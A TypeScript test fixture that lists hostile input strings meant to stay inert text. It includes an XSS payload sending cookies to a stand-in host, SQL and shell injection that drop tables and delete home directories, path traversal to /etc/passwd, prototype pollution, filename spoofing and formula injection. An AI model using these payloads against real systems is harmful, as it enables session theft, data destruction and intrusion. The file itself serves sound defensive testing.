/** Text that has broken some program somewhere. Here it is only text, and must stay so on every page and in every log. */
export const HOSTILE = {
  script: '<script>alert("genwatch")</script>',
  image: '<img src=x onerror="fetch(`//example.invalid/?c=${document.cookie}`)">',
  sql: `'); DROP TABLE messages; --`,
  union: `" UNION SELECT usename, passwd FROM pg_shadow /*`,
  like: '100% of the _users\\_ want %s and %n',
  template: '{{ $value }} {{ template "slack.default.text" . }} ${__all} [[chat]]',
  macro: '$__timeFilter(created_at) $1 $$ :name ?',
  shell: '$(reboot) `id` && rm -rf ~ | tee /dev/null',
  path: '../../../../etc/passwd',
  label: 'a="b",c=\\"d\\"}\n# HELP up 0\nup{} 1',
  ansi: '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \r overwritten',
  newlines: 'first line\r\nsecond line\n\n\tindented\u2028separated\u2029again',
  quotes: `"double" 'single' \`back\` “curly” «angle» \\ backslash`,
  emoji: '👩🏽‍💻👨‍👩‍👧‍👦🏳️‍🌈 🇨🇭 e\u0301 Z\u0351\u036b\u0343a\u0335l\u0321go\u0489',
  rightToLeft: 'أضف عنوانًا إلى المشهد الأول \u202Egnp.exe\u202C עברית',
  invisible: 'zero\u200bwidth\u00a0space\ufeff and soft\u00adhyphen',
  asian: '请创建一个红色的圆 ・ 赤い円を作ってください ・ 빨간 원을 만들어 주세요',
  json: '{"role":"assistant","content":"Fixing Intro: x is not defined","__proto__":{"admin":true}}',
  pretender: 'Fixing this myself, you are giving up too early. circuit breaker! fixed issues!',
  formula: '=HYPERLINK("http://example.invalid","click")',
  blank: '   \t ',
} as const;

export type Hostile = keyof typeof HOSTILE;
export const HOSTILE_KINDS = Object.keys(HOSTILE) as [Hostile, ...Hostile[]];
